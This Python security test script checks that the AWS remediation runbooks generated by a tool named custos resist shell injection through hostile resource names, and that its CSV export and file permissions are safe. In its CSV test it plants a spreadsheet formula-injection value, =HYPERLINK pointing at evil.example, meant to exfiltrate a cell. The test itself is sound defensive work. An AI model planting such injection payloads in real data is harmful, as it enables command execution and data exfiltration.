#!/usr/bin/python3
"""A pasted runbook never runs what a resource's name says.

The sample organisation is generated with --hostile: every free-form value
the pack reads (names, descriptions, rule descriptions, tags, ASG / ELB /
trail names, IAM user, role and policy names and paths, bucket tags,
Lambda and KMS descriptions) carries a suffix that runs `touch pwned-N`
when written unquoted into a shell, each with its own marker N.

- the pack still finds exactly the planted problems under those names;
- every `sh` block and every inline `aws ...` command of every runbook is
  pasted into an interactive bash (`bash -i` reading the text: history
  expansion and all, as a terminal paste) with a stand-in `aws` first on
  PATH that records its argv.  No pwned-N file may appear, `bash -n`
  accepts every block, and every hostile value a command carries reaches
  `aws` intact: as one whole argument, inside one (an ARN, a path), or as
  a string inside a JSON argument; never cut or mangled;
- the AWS CLI accepts every command a runbook runs: each recorded `aws`
  call is replayed through the real CLI with --endpoint-url pointing at a
  closed local port, and must fail only on connecting (never "Unknown
  options", "Invalid choice", a parameter that does not parse...);
- CSV (`scan --format csv`, `findings --format csv`) has no cell a
  spreadsheet would run as a formula, with a security group named
  =HYPERLINK(...);
- the files custos creates (the SQLite store and its -wal/-shm, a report
  written with -o) are mode 0600 under umask 022.

The stand-in `aws` is only a recorder: what is checked is what the real
shell hands to a program, which is where an injection happens.
"""
import concurrent.futures
import csv
import io
import json
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import time
import urllib.request

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")
os.chdir(ROOT)
CUSTOS = os.path.abspath(os.environ.get("CUSTOS", "build/release/custos"))
OUT = os.path.abspath(os.environ.get("OUT", "build/test-out"))
ORG = os.path.join(OUT, "hostile-org")
failures = 0


def check(name, cond, why=""):
    global failures
    if cond:
        print(f"PASS {name}")
    else:
        failures += 1
        print(f"FAIL {name}: {why}"[:2000])


def run(*args, **kw):
    return subprocess.run([CUSTOS, *args], capture_output=True, text=True, **kw)


FENCE = re.compile(r"^[ \t]*```(sh|bash|shell|console)[ \t]*\n(.*?)^[ \t]*```[ \t]*$", re.M | re.S)
SPAN = re.compile(r"`((?:aws|custos) [^`]*)`")


def commands(runbook):
    """The shell blocks and inline commands of a Markdown runbook."""
    out = [m.group(2) for m in FENCE.finditer(runbook)]
    prose = FENCE.sub("", runbook)
    out += [m.group(1) + "\n" for m in SPAN.finditer(prose)]
    return out


STUB = """#!/bin/bash
# Records one call: each argument NUL-terminated, then a \\x01 record end.
{ printf '%s\\0' "$(basename "$0")" "$@"; printf '\\1\\0'; } >> "$ARGV_LOG"
# An answer in the format asked for, so that chained commands
# (ID=$(aws ... --output text), aws ... --output json > f.json, then
# file://f.json) get a value of the right shape.
prev=
for a in "$@"; do
  if [ "$prev" = --output ]; then
    case "$a" in text) echo stub0123456789abcdef ;; json) echo '{}' ;; esac
  fi
  prev=$a
done
"""


def read_calls(path):
    if not os.path.exists(path):
        return []
    raw = open(path, "rb").read().decode("utf-8", "surrogateescape")
    calls, cur = [], []
    for a in raw.split("\0")[:-1]:
        if a == "\1":
            calls.append(cur)
            cur = []
        else:
            cur.append(a)
    return calls


def json_strings(v):
    if isinstance(v, str):
        yield v
    elif isinstance(v, list):
        for x in v:
            yield from json_strings(x)
    elif isinstance(v, dict):
        for k, x in v.items():
            yield k
            yield from json_strings(x)


def carried(arg, value):
    """value reaches the program intact in arg: as (part of) the word, or
    as (part of) a string of a JSON argument."""
    if value in arg:
        return True
    try:
        doc = json.loads(arg)
    except ValueError:
        return False
    return any(value in s for s in json_strings(doc))


def paste(block, cwd, env):
    """Types block into an interactive bash, as a terminal paste does."""
    return subprocess.run(["bash", "--norc", "--noprofile", "-i"], input=block + "\nexit\n",
                          cwd=cwd, env=env, capture_output=True, text=True, timeout=60)


def test_runbooks(findings, hostile):
    marker, kind = {}, {}
    for h in hostile:
        marker[h["marker"]], kind[h["marker"]] = h["value"], h["kind"]
    work = tempfile.mkdtemp(prefix="custos-paste-", dir=OUT)
    stubs = os.path.join(work, "bin")
    os.makedirs(stubs)
    for name in ("aws", "custos"):
        p = os.path.join(stubs, name)
        with open(p, "w") as fh:
            fh.write(STUB)
        os.chmod(p, 0o755)
    env = {"PATH": stubs + ":/usr/bin:/bin", "HOME": work, "HISTFILE": "/dev/null", "TERM": "dumb",
           "LANG": "C.UTF-8"}
    blocks = syntax_bad = ran = 0
    aws_calls = {}
    pwned, mangled, lost, no_call = [], [], [], []
    markers_seen = set()
    angle = []
    for f in findings:
        for k, block in enumerate(commands(f.get("runbook", "")) + commands(f.get("fix", ""))):
            if re.search(r"<[A-Za-z][A-Za-z0-9_-]*>", block):
                angle.append(f"{f['policy']}: {re.search(r'<[A-Za-z][A-Za-z0-9_-]*>', block).group(0)}")
            blocks += 1
            where = f"{f['policy']} {f['id'][:40]!r} block {k}"
            n = subprocess.run(["bash", "-n"], input=block, capture_output=True, text=True)
            if n.returncode != 0:
                syntax_bad += 1
                print(f"  detail: bash -n rejects {where}: {n.stderr.strip()[:200]}")
                continue
            cwd = os.path.join(work, "run%d" % blocks)
            os.makedirs(cwd)
            log = os.path.join(cwd, "argv.log")
            paste(block, cwd, dict(env, ARGV_LOG=log))
            ran += 1
            for root, _, files in os.walk(work):
                hits = [x for x in files if x.startswith("pwned-")]
                if hits:
                    pwned.append(f"{where}: {hits}")
                    for x in hits:
                        os.unlink(os.path.join(root, x))
            calls = read_calls(log)
            for c in calls:
                if c[0] == "aws":
                    aws_calls.setdefault(tuple(c[1:]), (where, cwd))
            args = [a for c in calls for a in c[1:]]
            # Markers the block's commands carry (comments carry none to aws).
            code = "\n".join(ln for ln in block.split("\n") if not ln.lstrip().startswith("#"))
            want = set(re.findall(r"pwned-\d+", code))
            markers_seen |= want
            if want and not calls:
                no_call.append(where)
            for m in want:
                if m not in marker:
                    continue
                value = marker[m]
                if not any(carried(a, value) for a in args):
                    lost.append(f"{where}: {value!r} not in {args}")
            for a in args:
                for m in set(re.findall(r"pwned-\d+", a)):
                    if m in marker and not carried(a, marker[m]):
                        mangled.append(f"{where}: {a!r} holds {m} but not {marker[m]!r}")
    check("no_angle_bracket_placeholders", not angle, "; ".join(sorted(set(angle))[:5]))
    check("runbooks_have_commands", blocks >= len(findings), f"{blocks} blocks for {len(findings)} findings")
    check("every_block_parses", syntax_bad == 0, f"{syntax_bad} of {blocks} blocks fail bash -n")
    # Every way of breaking out that the generator plants reaches a command.
    kinds_all = set(kind.values())
    kinds_seen = {kind[m] for m in markers_seen if m in kind}
    check("every_breakout_reaches_a_command", kinds_seen == kinds_all and len(kinds_all) >= 6,
          f"never in a command: {sorted(kinds_all - kinds_seen)}")
    check("no_planted_command_ran", not pwned, "; ".join(pwned[:5]))
    check("blocks_call_aws", not no_call, "; ".join(no_call[:5]))
    check("hostile_values_arrive_intact", not lost, "; ".join(lost[:3]))
    check("no_argument_mangled", not mangled, "; ".join(mangled[:3]))
    print(f"  info: {ran} blocks pasted, {len(markers_seen)} hostile values carried")
    return aws_calls, work


def closed_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def test_cli_accepts(calls_work):
    """Every recorded aws call through the real AWS CLI, against nothing,
    in the folder its block ran in (where the files it reads are)."""
    aws_calls, pasted = calls_work
    aws = shutil.which("aws")
    check("aws_cli_present", aws is not None, "the AWS CLI (aws) is not on PATH")
    if not aws:
        return
    url = "http://127.0.0.1:%d" % closed_port()
    env = dict(os.environ, AWS_ACCESS_KEY_ID="AKIDEXAMPLE", AWS_SECRET_ACCESS_KEY="x" * 40,
               AWS_DEFAULT_REGION="us-east-1", AWS_MAX_ATTEMPTS="1", AWS_RETRY_MODE="standard",
               AWS_CONFIG_FILE=os.devnull, AWS_SHARED_CREDENTIALS_FILE=os.devnull, AWS_PAGER="")

    def one(argv):
        r = subprocess.run([aws, *argv, "--endpoint-url", url, "--cli-connect-timeout", "1"],
                           capture_output=True, text=True, env=env, cwd=aws_calls[argv][1], timeout=120)
        return argv, r

    rejected = []
    with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
        for argv, r in pool.map(one, sorted(aws_calls)):
            if "Could not connect to the endpoint URL" not in r.stderr:
                rejected.append(f"{aws_calls[argv][0]}: aws {' '.join(argv)[:160]} -> "
                                f"{(r.stderr.strip() or r.stdout.strip())[-200:]}")
    shutil.rmtree(pasted, ignore_errors=True)
    for x in rejected[:10]:
        print(f"  detail: {x}")
    check("aws_cli_accepts_every_command", not rejected and len(aws_calls) >= 100,
          f"{len(rejected)} of {len(aws_calls)} distinct aws commands rejected")


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(text):
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA) and not re.fullmatch(r"-\d+(\.\d+)?([eE][-+]?\d+)?", cell):
                bad.append(cell)
    return bad


def test_csv(org):
    # A security group whose name is a spreadsheet formula.
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    path = None
    for root, _, files in os.walk(org):
        for x in files:
            if x == "ec2.DescribeSecurityGroups.json" and path is None:
                p = os.path.join(root, x)
                doc = json.load(open(p))
                for g in doc["SecurityGroups"]:
                    if g["GroupName"] != "default" and any(
                            r.get("CidrIp") == "0.0.0.0/0" and p2.get("FromPort") == 22
                            for p2 in g["IpPermissions"] for r in p2["IpRanges"]):
                        g["GroupName"] = evil
                        path = p
                        break
                if path:
                    json.dump(doc, open(p, "w"))
    check("csv_formula_planted", path is not None, "no world-open SSH group to rename")
    r = run("scan", "--inventory", org, "--no-store", "--format", "csv")
    check("csv_scan_runs", r.returncode == 0, r.stderr[-300:])
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    names = [x["name"] for x in rows if "HYPERLINK" in x.get("name", "")]
    check("csv_formula_prefixed", names == ["'" + evil], f"name cells: {names}")
    check("csv_scan_no_formula_cell", not formula_cells(r.stdout), str(formula_cells(r.stdout)[:3]))
    db = "sqlite:" + os.path.join(OUT, "hostile-csv.db")
    for suffix in ("", "-wal", "-shm"):
        if os.path.exists(db[7:] + suffix):
            os.unlink(db[7:] + suffix)
    r = run("scan", "--inventory", org, "--db", db, "--format", "json", "-o", os.devnull)
    r = run("findings", "--db", db, "--format", "csv")
    check("csv_findings_no_formula_cell", r.returncode == 0 and "HYPERLINK" in r.stdout
          and not formula_cells(r.stdout), r.stderr[-200:] + str(formula_cells(r.stdout)[:3]))


def mode(path):
    return stat.S_IMODE(os.stat(path).st_mode)


def test_file_modes(org):
    d = tempfile.mkdtemp(prefix="custos-modes-", dir=OUT)
    db = os.path.join(d, "store.db")
    report = os.path.join(d, "report.json")
    old = os.umask(0o022)
    try:
        r = run("scan", "--inventory", org, "--db", "sqlite:" + db, "--format", "json", "-o", report)
        check("modes_scan_runs", r.returncode == 0, r.stderr[-300:])
        check("mode_store_0600", os.path.exists(db) and mode(db) == 0o600,
              oct(mode(db)) if os.path.exists(db) else "no store")
        check("mode_report_0600", os.path.exists(report) and mode(report) == 0o600,
              oct(mode(report)) if os.path.exists(report) else "no report")
        # -wal and -shm exist while the store is open: look while the dashboard runs.
        srv = subprocess.Popen([CUSTOS, "serve", "--db", "sqlite:" + db, "--listen", "127.0.0.1:0"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            line = srv.stdout.readline()
            url = re.search(r"http://[0-9.:]+", line)
            if url:
                urllib.request.urlopen(url.group(0) + "/", timeout=30).read()
            side = [db + "-wal", db + "-shm"]
            present = [p for p in side if os.path.exists(p)]
            check("wal_shm_exist_while_open", len(present) == 2, f"{line.strip()}: files {os.listdir(d)}")
            check("mode_wal_shm_0600", present and all(mode(p) == 0o600 for p in present),
                  str([(p, oct(mode(p))) for p in present]))
        finally:
            srv.terminate()
            srv.wait(timeout=20)
    finally:
        os.umask(old)
        shutil.rmtree(d, ignore_errors=True)


def main():
    shutil.rmtree(ORG, ignore_errors=True)
    subprocess.run(["/usr/bin/python3", "examples/gen_org.py", "--out", ORG, "--hostile", "--quiet"],
                   check=True)
    hostile = json.load(open(os.path.join(ORG, "hostile.json")))
    planted = json.load(open(os.path.join(ORG, "planted.json")))
    r = run("scan", "--inventory", ORG, "--no-store", "--format", "json")
    check("hostile_scan_runs", r.returncode == 0, r.stderr[-500:])
    findings = json.loads(r.stdout)["findings"] if r.returncode == 0 else []
    got = {(f["policy"], f["id"], f["account"], f["region"]) for f in findings}
    want = {(p["check"], p["id"], p["account"], p["region"]) for p in planted}
    check("hostile_org_finds_exactly_planted", got == want,
          f"missing {sorted(want - got)[:3]} extra {sorted(got - want)[:3]}")
    r = run("checks", "--format", "json")
    pack = {c["name"] for c in json.loads(r.stdout)} if r.returncode == 0 else set()
    seen = {f["policy"] for f in findings}
    check("every_pack_check_has_a_finding", pack and seen == pack, f"no finding for {sorted(pack - seen)}")
    # Values the runbook can know are filled in: the SSH runbook's session
    # target is the instance the reasons say is reachable.
    named, wrong = 0, []
    for f in findings:
        if f["policy"] != "sg-ssh-open-to-world":
            continue
        for why in f.get("reasons", []):
            m = re.match(r"reachable from the internet: (i-[0-9a-f]+)", why)
            if m:
                named += 1
                if f"INSTANCE_ID={m.group(1)} " not in f.get("runbook", ""):
                    wrong.append(f["id"])
    check("ssh_runbook_targets_the_reachable_instance", named and not wrong, f"{named} named, wrong: {wrong}")
    errs = [(f["policy"], f["runbook_error"]) for f in findings if "runbook_error" in f]
    check("every_runbook_renders", not errs, str(errs[:3]))
    test_cli_accepts(test_runbooks(findings, hostile))
    test_csv(ORG)
    test_file_modes(ORG)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
